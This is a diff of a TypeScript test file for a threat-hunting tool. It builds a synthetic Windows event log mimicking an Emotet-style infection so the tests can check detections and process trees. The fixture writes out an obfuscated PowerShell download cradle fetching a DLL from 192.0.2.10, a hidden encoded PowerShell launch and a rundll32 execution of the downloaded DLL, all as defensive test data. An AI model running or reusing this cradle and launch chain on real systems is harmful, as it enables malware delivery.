@@ -1,108 +1,81 @@
 import assert from 'node:assert/strict';
-import { mkdtempSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { describe, test } from 'node:test';
-import { buildEvtx, type EvtxRecordSpec, eventRoot } from '../../../../test/builders/evtx.js';
-import { runCli } from '../../../../test/support/cli-io.js';
+import {
+  eventRecord,
+  huntNoStore,
+  POWERSHELL,
+  processCreator,
+  writeTempEvtx,
+} from '../../../../test/support/hunt-evtx.js';
 import { sharedDataPath, sharedDataSkip } from '../../../../test/support/fixtures.js';
 
-const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
 const guid = (n: number) => `{5770385F-C22A-43E0-BF4C-06F5${String(n).padStart(8, '0')}}`;
 const encode = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
+/** Every record names the PowerShell (pid 2000) as its writer: the 4104 block is tied to it that way. */
+const AS_POWERSHELL = { executionPid: 2000 };
 
-function record(id: number, channel: string, eventId: number, data: Record<string, unknown>) {
-  const second = String(id).padStart(2, '0');
-  return {
-    recordId: id,
-    time: `2024-05-01T10:00:${second}.000000Z`,
-    event: eventRoot({
-      System: {
-        EventID: eventId,
-        TimeCreated: { '#attributes': { SystemTime: `2024-05-01T10:00:${second}.000000Z` } },
-        EventRecordID: id,
-        Channel: channel,
-        Computer: 'ws01.example.com',
-        Execution: { '#attributes': { ProcessID: 2000, ThreadID: 1 } },
-      },
-      EventData: data,
-    }),
-    types: { 'Event.System.TimeCreated.#attributes.SystemTime': 'filetime' },
-  } satisfies EvtxRecordSpec;
-}
+const record = (id: number, channel: string, eventId: number, data: Record<string, unknown>) =>
+  eventRecord(id, channel, eventId, data, AS_POWERSHELL);
 
-const proc = (
-  id: number,
-  pid: number,
-  parent: number,
-  image: string,
-  parentImage: string,
-  cmd: string,
-) =>
-  record(id, SYSMON, 1, {
-    ProcessGuid: guid(pid),
-    ProcessId: String(pid),
-    Image: image,
-    CommandLine: cmd,
-    User: 'EXAMPLE\\alice',
-    ParentProcessGuid: guid(parent),
-    ParentProcessId: String(parent),
-    ParentImage: parentImage,
-  });
+const proc = processCreator(guid, { user: 'EXAMPLE\\alice', options: () => AS_POWERSHELL });
 
 /** Word, then WMI starting an encoded PowerShell that runs rundll32, and its obfuscated script block. */
 function emotetLog(): string {
-  const dir = mkdtempSync(join(tmpdir(), 'emoguard-hunt-tree-'));
-  const path = join(dir, 'host.evtx');
-  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+  const ps = POWERSHELL;
   const cradle =
     "$c = New-Object ('Net.'+'WebClient'); $c.('Down'+'loadFile')('http://192.0.2.10/a.dll', 'a.dll')";
-  writeFileSync(
-    path,
-    buildEvtx({
-      chunks: [
-        {
-          records: [
-            proc(
-              1,
-              1000,
-              900,
-              'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
-              'C:\\Windows\\explorer.exe',
-              'WINWORD.EXE /n invoice.doc',
-            ),
-            proc(
-              2,
-              2000,
-              1500,
-              ps,
-              'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
-              `powershell -w hidden -enc ${encode(cradle)}`,
-            ),
-            record(3, 'Microsoft-Windows-PowerShell/Operational', 4104, {
-              MessageNumber: 1,
-              MessageTotal: 1,
-              ScriptBlockText: cradle,
-              ScriptBlockId: '{00000000-0000-0000-0000-000000000001}',
-              Path: '',
-            }),
-            proc(
-              4,
-              3000,
-              2000,
-              'C:\\Windows\\System32\\rundll32.exe',
-              ps,
-              'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll,Control_RunDLL',
-            ),
-          ],
-        },
+  return writeTempEvtx('emoguard-hunt-tree-', 'host.evtx', [
+    {
+      records: [
+        proc(
+          1,
+          1000,
+          900,
+          'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+          'C:\\Windows\\explorer.exe',
+          'WINWORD.EXE /n invoice.doc',
+        ),
+        proc(
+          2,
+          2000,
+          1500,
+          ps,
+          'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
+          `powershell -w hidden -enc ${encode(cradle)}`,
+        ),
+        record(3, 'Microsoft-Windows-PowerShell/Operational', 4104, {
+          MessageNumber: 1,
+          MessageTotal: 1,
+          ScriptBlockText: cradle,
+          ScriptBlockId: '{00000000-0000-0000-0000-000000000001}',
+          Path: '',
+        }),
+        proc(
+          4,
+          3000,
+          2000,
+          'C:\\Windows\\System32\\rundll32.exe',
+          ps,
+          'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll,Control_RunDLL',
+        ),
       ],
-    }),
-  );
-  return path;
+    },
+  ]);
 }
 
-const db = () => join(mkdtempSync(join(tmpdir(), 'emoguard-hunt-tree-db-')), 'none.db');
+const hunt = (...args: string[]) => huntNoStore('emoguard-hunt-tree-db-', ...args);
+
+/** `hunt --tree --json` over a file: the process tree of each detection line. */
+async function treesOf(path: string) {
+  const r = await hunt('--tree', '--json', path);
+  return {
+    r,
+    trees: r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l).processTree),
+  };
+}
 
 type Node = { image: string; match?: true; children: Node[] };
 const shape = (n: Node): unknown => [
@@ -113,7 +86,7 @@ const shape = (n: Node): unknown => [
 
 describe('hunt --tree and PowerShellNormalized on an EVTX built in code', () => {
   test('--json: high/critical detections carry the process tree as nested objects', async () => {
-    const r = await runCli(['hunt', '--no-store', '--db', db(), '--tree', '--json', emotetLog()]);
+    const r = await hunt('--tree', '--json', emotetLog());
     assert.equal(r.code, 1, r.stderr);
     const lines = r.stdout
       .trim()
@@ -151,9 +124,9 @@ describe('hunt --tree and PowerShellNormalized on an EVTX built in code', () => 
   });
 
   test('without --tree, detections carry no tree; with it, text output indents the tree under the line', async () => {
-    const plain = await runCli(['hunt', '--no-store', '--db', db(), '--json', emotetLog()]);
+    const plain = await hunt('--json', emotetLog());
     assert.ok(!plain.stdout.includes('processTree'), 'no tree unless asked');
-    const text = await runCli(['hunt', '--no-store', '--db', db(), '--tree', emotetLog()]);
+    const text = await hunt('--tree', emotetLog());
     assert.match(
       text.stdout,
       /process tree on ws01\.example\.com:\n {6}C:\\Windows\\System32\\wbem\\WmiPrvSE\.exe\n {8}└ C:\\Windows\\System32\\WindowsPowerShell\\v1\.0\\powershell\.exe {2}\[2000\]/,
@@ -166,19 +139,7 @@ describe('hunt --tree and PowerShellNormalized on an EVTX built in code', () => 
     'real sample: impacket wmiexec shells under one WmiPrvSE',
     { skip: sharedDataSkip(...sample) },
     async () => {
-      const r = await runCli([
-        'hunt',
-        '--no-store',
-        '--db',
-        db(),
-        '--tree',
-        '--json',
-        sharedDataPath(...sample),
-      ]);
-      const trees = r.stdout
-        .trim()
-        .split('\n')
-        .map((l) => JSON.parse(l).processTree);
+      const { trees } = await treesOf(sharedDataPath(...sample));
       assert.equal(trees.length, 3);
       assert.deepEqual(
         trees.map((t) => t.root.children.length),
@@ -197,19 +158,7 @@ describe('hunt --tree and PowerShellNormalized on an EVTX built in code', () => 
     'real sample: Security 4688 trees link by pid and logon id',
     { skip: sharedDataSkip(...security) },
     async () => {
-      const r = await runCli([
-        'hunt',
-        '--no-store',
-        '--db',
-        db(),
-        '--tree',
-        '--json',
-        sharedDataPath(...security),
-      ]);
-      const trees = r.stdout
-        .trim()
-        .split('\n')
-        .map((l) => JSON.parse(l).processTree);
+      const { r, trees } = await treesOf(sharedDataPath(...security));
       assert.ok(trees.length >= 2, r.stdout);
       assert.ok(
         trees.every((t) => t.root.image.endsWith('WmiPrvSE.exe')),
